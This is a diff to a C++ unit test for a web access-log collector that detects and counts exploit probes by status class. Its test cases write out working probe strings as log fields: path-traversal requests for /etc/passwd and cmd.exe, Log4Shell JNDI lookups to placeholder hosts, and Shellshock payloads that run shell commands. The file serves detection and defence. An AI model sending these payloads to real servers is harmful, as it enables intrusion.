@@ -72,15 +72,20 @@ TEST_F(AccessLogCollectorTest, ReplaysTheXmlrpcFloodIncident) {
   EXPECT_THAT(t, HasSubstr("edgewatch_wp_login_requests_total{" + log +
                            ",method=\"POST\",code=\"200\"} 40\n"));
   EXPECT_THAT(t, HasSubstr("edgewatch_http_pingback_requests_total{" + log + "} 25\n"));
-  EXPECT_THAT(
-      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"shellshock\"} 3\n"));
-  EXPECT_THAT(t,
-              HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"log4shell\"} 0\n"));
-  EXPECT_THAT(
-      t, HasSubstr("edgewatch_http_exploit_probes_total{" + log + ",kind=\"path_traversal\"} 0\n"));
   // All three were answered 404 (grep -F '() {' on the log): none may have worked.
-  EXPECT_THAT(t, HasSubstr("edgewatch_http_exploit_probes_answered_total{" + log +
-                           ",kind=\"shellshock\"} 0\n"));
+  const auto probes = [&](std::string_view kind, std::string_view code_class) {
+    return "edgewatch_http_exploit_probes_total{" + log + ",kind=\"" + std::string(kind) +
+           "\",code_class=\"" + std::string(code_class) + "\"} ";
+  };
+  EXPECT_THAT(t, HasSubstr(probes("shellshock", "4xx") + "3\n"));
+  for (const char* code_class : {"1xx", "2xx", "3xx", "5xx"}) {
+    EXPECT_THAT(t, HasSubstr(probes("shellshock", code_class) + "0\n"));
+  }
+  for (const char* kind : {"log4shell", "path_traversal"}) {
+    for (const char* code_class : {"1xx", "2xx", "3xx", "4xx", "5xx"}) {
+      EXPECT_THAT(t, HasSubstr(probes(kind, code_class) + "0\n"));
+    }
+  }
   EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
                            ",client=\"203.0.113.10\"} 300\n"));
   EXPECT_THAT(t, HasSubstr("edgewatch_xmlrpc_top_client_requests{" + log +
@@ -124,31 +129,80 @@ TEST_F(AccessLogCollectorTest, TopClientsAreBoundedAndAgeOut) {
   EXPECT_EQ(stats.xmlrpc()[static_cast<int>(access_log::Method::kPost)][100], 1300u);
 }
 
+// Lines in a format that logs the headers attackers put exploits in; each is counted once under
+// the probe it carries, whichever field it is in.
 TEST_F(AccessLogCollectorTest, SignaturesInEveryField) {
-  AccessLogStats stats(AccessLogSettings{});
-  access_log::Request r;
-  r.status = 200;
-  r.request = "GET /a/../../etc/passwd HTTP/1.1";
-  stats.Add(r);
-  r.request = "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1";
-  stats.Add(r);
-  r.request = "GET / HTTP/1.1";
-  r.user_agent = "${jndi:ldap://198.51.100.9/a}";
-  stats.Add(r);
-  r.user_agent = "";
-  r.referer = "${${lower:j}ndi:ldap://x/a}";
-  stats.Add(r);
-  r.referer = "";
-  r.request = "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1";
-  stats.Add(r);
-  r.request = "GET /index.php?x=a..b HTTP/1.1";             // not a traversal
-  r.user_agent = "Mozilla/5.0 (X11; Linux) WordPress/6.4";  // not a pingback verifier
-  stats.Add(r);
-  const auto& p = stats.probes();
-  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kPathTraversal)], 2u);
-  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kLog4Shell)], 3u);
-  EXPECT_EQ(p[static_cast<int>(access_log::Probe::kShellshock)], 0u);
-  EXPECT_EQ(stats.pingbacks(), 0u);
+  const auto format = access_log::Format::Compile(
+      R"(%h %u %t "%r" "%{Referer}i" "%{User-Agent}i" "%{Host}i" "%{Cookie}i" )"
+      R"("%{X-Forwarded-For}i" "%{X-Api-Version}i" %>s %b)");
+  ASSERT_TRUE(format);
+  struct Case {
+    const char* fields;  // user, request, referer, ua, host, cookie, xff, x-api-version
+    access_log::Probe probe;
+  };
+  using P = access_log::Probe;
+  const Case cases[] = {
+      {R"t(- "GET /a/../../etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kPathTraversal},
+      {R"t(- "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
+       P::kPathTraversal},
+      // CVE-2021-41773 and -42013 (Apache 2.4.49 and 2.4.50).
+      {R"t(- "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
+       P::kPathTraversal},
+      {R"t(- "GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
+       P::kPathTraversal},
+      {R"t(- "GET /scripts/..%5c..%5cwinnt/system32/cmd.exe HTTP/1.0" "-" "-" "-" "-" "-" "-")t",
+       P::kPathTraversal},
+      {R"t(- "GET /.. HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kPathTraversal},
+      {R"t(- "GET / HTTP/1.1" "-" "${jndi:ldap://198.51.100.9/a}" "-" "-" "-" "-")t",
+       P::kLog4Shell},
+      {R"t(- "GET / HTTP/1.1" "${${lower:j}ndi:ldap://x/a}" "-" "-" "-" "-" "-")t", P::kLog4Shell},
+      {R"t(- "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kLog4Shell},
+      {R"t(- "GET / HTTP/1.1" "-" "-" "${jndi:ldap://x/h}" "-" "-" "-")t", P::kLog4Shell},
+      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "id=${jndi:rmi://x/c}" "-" "-")t", P::kLog4Shell},
+      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "-" "${jndi:ldap://x/f}" "-")t", P::kLog4Shell},
+      {R"t(- "GET / HTTP/1.1" "-" "-" "-" "-" "-" "${jndi:ldap://x/v}")t", P::kLog4Shell},
+      {R"t(${jndi:ldap://x/u} "GET / HTTP/1.1" "-" "-" "-" "-" "-" "-")t", P::kLog4Shell},
+      {R"t(- "GET /cgi-bin/status HTTP/1.1" "-" "() { :; }; /bin/bash -c id" "-" "-" "-" "-")t",
+       P::kShellshock},
+      {R"t(- "GET /cgi-bin/status HTTP/1.1" "() { :;}; echo; /bin/id" "-" "-" "-" "-" "-")t",
+       P::kShellshock},
+      {R"t(- "GET /cgi-bin/x HTTP/1.1" "-" "-" "-" "x=() { :; }; ping 192.0.2.1" "-" "-")t",
+       P::kShellshock},
+  };
+  // "192.0.2.9 USER [time] REQUEST ... 200 0": the fields with the server's parts around them.
+  const auto line_of = [](std::string_view fields) {
+    const auto user = fields.find(' ');
+    return "192.0.2.9 " + std::string(fields.substr(0, user)) + " [10/Oct/2026:13:55:36 +0000]" +
+           std::string(fields.substr(user)) + " 200 0";
+  };
+  for (const auto& c : cases) {
+    AccessLogStats stats(AccessLogSettings{});
+    const std::string line = line_of(c.fields);
+    const auto r = format->Parse(line);
+    ASSERT_TRUE(r) << c.fields;
+    stats.Add(*r);
+    for (int p = 0; p < access_log::kProbeCount; ++p) {
+      EXPECT_EQ(stats.probes()[p][1], p == static_cast<int>(c.probe) ? 1u : 0u)
+          << c.fields << " " << access_log::ProbeName(static_cast<access_log::Probe>(p));
+    }
+  }
+  // Look-alikes that are none.
+  for (
+      const char* fields :
+      {R"t(- "GET /index.php?x=a..b HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
+       R"t(- "GET /a/..b/c.. HTTP/1.1" "-" "-" "-" "-" "-" "-")t",
+       R"t(- "GET /price?x=$5 HTTP/1.1" "-" "Mozilla/5.0 (X11; Linux) WordPress/6.4" "-" "-" "-" "-")t",
+       R"t(- "GET / HTTP/1.1" "-" "curl/8.0 (function() {})" "-" "-" "-" "-")t"}) {
+    AccessLogStats stats(AccessLogSettings{});
+    const std::string line = line_of(fields);
+    const auto r = format->Parse(line);
+    ASSERT_TRUE(r) << fields;
+    stats.Add(*r);
+    for (int p = 0; p < access_log::kProbeCount; ++p) {
+      EXPECT_EQ(stats.probes()[p][1], 0u) << fields;
+    }
+    EXPECT_EQ(stats.pingbacks(), 0u);
+  }
 }
 
 TEST_F(AccessLogCollectorTest, FollowsConfiguredLogsWithTheirFormat) {
